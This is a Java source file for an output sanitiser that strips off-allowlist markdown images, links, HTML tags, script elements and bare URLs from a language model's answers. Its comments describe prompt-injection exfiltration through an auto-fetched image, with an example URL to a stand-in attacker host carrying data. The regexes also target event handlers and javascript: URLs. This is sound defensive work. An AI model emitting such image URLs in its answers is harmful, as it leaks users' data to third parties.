package io.hubia.runtime.policy.injection;

import java.net.URI;
import java.net.URISyntaxException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Removes from an answer what could carry data out to a host nobody chose: a markdown image is
 * fetched by the chat client as soon as the answer is shown, so {@code ![x](https://evil/?q=data)}
 * leaks whatever the model put in its URL without a click. Images, HTML tags with a {@code src} or
 * {@code href}, markdown links, link definitions and bare URLs are kept only when they point with
 * http(s) at an allowed host (or a subdomain of one); otherwise images and tags are removed, links
 * keep their text only, and bare URLs become a short notice. Elements that run code or embed a
 * document ({@code <script>}, {@code <iframe>}, {@code <object>}, ...) and tags with an event
 * handler or a script in an attribute ({@code onerror=}, {@code javascript:}) are removed wherever
 * they point: they need no URL to do harm.
 */
final class LinkCheck {
  private static final String TARGET =
      "\\(\\s*<?([^)\\s>]*)>?(?:\\s+(?:\"[^\"]*\"|'[^']*'))?\\s*\\)";
  private static final Pattern IMAGE = Pattern.compile("!\\[([^\\]\\n]*)]" + TARGET);
  private static final Pattern LINK = Pattern.compile("\\[([^\\]\\n]*)]" + TARGET);
  private static final Pattern DEFINITION =
      Pattern.compile("(?m)^ {0,3}\\[[^\\]\\n]+]:\\s*<?(\\S+?)>?(?:[ \\t]+[^\\n]*)?$\\n?");
  private static final Pattern TAG =
      Pattern.compile(
          "<(?:img|a|iframe|script|link|video|audio|source|embed|object|form)\\b[^>]*>",
          Pattern.CASE_INSENSITIVE);

  /**
   * Elements that run code or embed another document whatever they point at, removed with their
   * content: {@code <script>alert(1)</script>} has no URL to judge.
   */
  private static final Pattern ACTIVE_ELEMENT =
      Pattern.compile(
          "<(script|style|iframe|object|embed|svg|math|template)\\b[^>]*>(?:[\\s\\S]*?</\\1\\s*>)?",
          Pattern.CASE_INSENSITIVE);

  /**
   * Any tag with an event handler ({@code onerror=}) or a script in an attribute ({@code
   * javascript:}, a CSS {@code expression(...)}): code, whatever the tag.
   */
  private static final Pattern SCRIPTED_TAG =
      Pattern.compile(
          "<[a-z][a-z0-9-]*\\b[^>]*?(?:[\\s\"'/]on[a-z]+\\s*=|(?:java|vb)script:|expression\\s*\\()"
              + "[^>]*>",
          Pattern.CASE_INSENSITIVE);

  private static final Pattern TAG_URL =
      Pattern.compile(
          "\\b(?:src|href|data|action|srcset)\\s*=\\s*[\"']?([^\"'\\s>]+)",
          Pattern.CASE_INSENSITIVE);
  private static final Pattern URL =
      Pattern.compile("<?\\b(?:https?|ftp)://[^\\s<>()\\[\\]\"']+>?", Pattern.CASE_INSENSITIVE);
  private static final Pattern HOLDER = Pattern.compile("\u0000(\\d+)\u0000");
  private static final Pattern DIGITS = Pattern.compile("\\d+(?:\\s*[,\\-]\\s*\\d+)*");

  private LinkCheck() {}

  /**
   * @param text the answer left
   * @param links links neutralised (markdown, definitions, bare URLs, HTML tags)
   * @param images markdown images removed
   */
  record Result(String text, int links, int images) {
    int total() {
      return links + images;
    }
  }

  /**
   * {@code answer} with what points outside {@code allowedHosts} removed.
   *
   * @param removedNotice what a bare URL becomes ("[lien retiré]")
   */
  static Result check(String answer, Set<String> allowedHosts, String removedNotice) {
    if (answer == null || answer.isEmpty()) {
      return new Result(answer, 0, 0);
    }
    List<String> kept = new ArrayList<>();
    int[] links = {0};
    int[] images = {0};
    String s = answer;
    s =
        replace(
            s,
            ACTIVE_ELEMENT,
            m -> {
              links[0]++;
              return "";
            });
    s =
        replace(
            s,
            SCRIPTED_TAG,
            m -> {
              links[0]++;
              return "";
            });
    s =
        replace(
            s,
            IMAGE,
            m -> {
              if (allowed(m.group(2), allowedHosts)) {
                return hold(kept, m.group());
              }
              images[0]++;
              return "";
            });
    s =
        replace(
            s,
            TAG,
            m -> {
              Matcher url = TAG_URL.matcher(m.group());
              boolean ok = true;
              while (url.find()) {
                ok &= allowed(url.group(1), allowedHosts);
              }
              if (ok) {
                return hold(kept, m.group());
              }
              links[0]++;
              return "";
            });
    s =
        replace(
            s,
            LINK,
            m -> {
              if (allowed(m.group(2), allowedHosts)) {
                return hold(kept, m.group());
              }
              links[0]++;
              String label = m.group(1).strip();
              // [1](https://...) is a citation marker made a link: keep the marker
              return DIGITS.matcher(label).matches() ? "[" + label + "]" : label;
            });
    s =
        replace(
            s,
            DEFINITION,
            m -> {
              if (allowed(m.group(1), allowedHosts)) {
                return hold(kept, m.group());
              }
              links[0]++;
              return "";
            });
    s =
        replace(
            s,
            URL,
            m -> {
              String url = m.group().replaceAll("^<|>$", "");
              String trailing = url.replaceAll("^.*?([.,;:!?]*)$", "$1");
              url = url.substring(0, url.length() - trailing.length());
              if (allowed(url, allowedHosts)) {
                return hold(kept, m.group());
              }
              links[0]++;
              return removedNotice + trailing;
            });
    s = replace(s, HOLDER, m -> kept.get(Integer.parseInt(m.group(1))));
    if (links[0] + images[0] > 0) {
      s = s.replaceAll("[ \\t]{2,}", " ").replaceAll("[ \\t]+([.,;:!?])(?!\\[)", "$1").strip();
    }
    return new Result(s, links[0], images[0]);
  }

  /** Whether {@code url} is http(s) to an allowed host or one of its subdomains. */
  static boolean allowed(String url, Set<String> allowedHosts) {
    String host = host(url);
    if (host == null) {
      return false;
    }
    for (String allowed : allowedHosts) {
      if (host.equals(allowed) || host.endsWith("." + allowed)) {
        return true;
      }
    }
    return false;
  }

  /** The lower-case host of an http(s) URL, else {@code null}. */
  static String host(String url) {
    if (url == null) {
      return null;
    }
    try {
      URI uri = new URI(url.strip());
      String scheme = uri.getScheme();
      if (scheme == null
          || !(scheme.equalsIgnoreCase("http") || scheme.equalsIgnoreCase("https"))
          || uri.getHost() == null) {
        return null;
      }
      return uri.getHost().toLowerCase(Locale.ROOT);
    } catch (URISyntaxException e) {
      return null;
    }
  }

  private static String hold(List<String> kept, String original) {
    kept.add(original);
    return "\u0000" + (kept.size() - 1) + "\u0000";
  }

  private static String replace(String s, Pattern pattern, Function<Matcher, String> with) {
    Matcher m = pattern.matcher(s);
    StringBuilder out = new StringBuilder();
    while (m.find()) {
      m.appendReplacement(out, Matcher.quoteReplacement(with.apply(m)));
    }
    m.appendTail(out);
    return out.toString();
  }
}
